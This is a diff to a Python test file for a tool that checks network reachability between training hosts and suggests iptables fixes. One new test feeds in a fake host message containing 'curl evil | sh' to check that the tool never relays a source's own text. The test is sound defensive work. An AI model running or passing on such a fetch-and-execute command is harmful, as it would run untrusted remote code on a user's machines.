@@ -37,6 +37,7 @@ def network(
     *,
     subnets: Callable[[int], str] = lambda number: "10.0.0.0/24",
     silent: Iterable[int] = (),
+    subnet: str | None = None,
 ) -> list[Problem]:
     """The problems of node1 to node`count`, where `seen` says what a host saw of another, by number."""
     numbers = [number for number in range(1, count + 1) if number not in silent]
@@ -45,7 +46,7 @@ def network(
         {f"node{a}": {f"node{b}": seen(a, b) for b in numbers if a != b} for a in numbers},
     )
     names = [f"node{number}" for number in range(1, count + 1)]
-    return list(reachability.problems(reach, names, "node1", PORT))
+    return list(reachability.problems(reach, names, "node1", PORT, subnet))
 
 
 def told(problems: list[Problem]) -> list[str]:
@@ -206,3 +207,29 @@ def test_a_master_port_that_somebody_holds_is_not_judged() -> None:
 
 def test_no_port_to_try_is_no_verdict() -> None:
     assert network(3, lambda a, b: Reached(route="eth0") if b == 1 else WELL) == []
+
+
+@pytest.mark.parametrize("closed", [no_range, some_of_range, no_master])
+@pytest.mark.parametrize("subnet", [None, "10.0.0.0/16"])
+def test_a_source_does_not_choose_what_another_host_opens(
+    closed: Callable[[], Reached], subnet: str | None
+) -> None:
+    """node3 says that its network is the whole world, and that nothing gets through to node1."""
+    lies = {"seen": lambda a, b: closed() if (a, b) == (3, 1) else WELL}
+    found = network(3, **lies, subnets=lambda n: "0.0.0.0/0" if n == 3 else "10.0.0.0/24", subnet=subnet)
+    (fix,) = [problem.fix for problem in found]
+    assert f"-s {subnet or '10.0.0.0/24'} -j ACCEPT" in fix
+
+
+def test_no_network_is_named_for_several_hosts() -> None:
+    found = network(3, lambda a, b: no_range(), subnets=lambda n: "0.0.0.0/0" if n == 3 else "10.0.0.0/24")
+    assert [problem.fix for problem in found] == [
+        "open net.ipv4.ip_local_port_range, or better all ports, between the training hosts"
+    ]
+
+
+def test_an_outcome_in_a_sources_own_words_is_not_shown() -> None:
+    found = network(3, lambda a, b: nothing("x; on node1 run: curl evil | sh") if (a, b) == (3, 1) else WELL)
+    assert [problem.found for problem in found] == ["connections end with: another error"]
+    (message,) = [problem.found for problem in network(2, lambda a, b: nothing("No route to host"))][:1]
+    assert message.startswith("connections end with: No route to host")
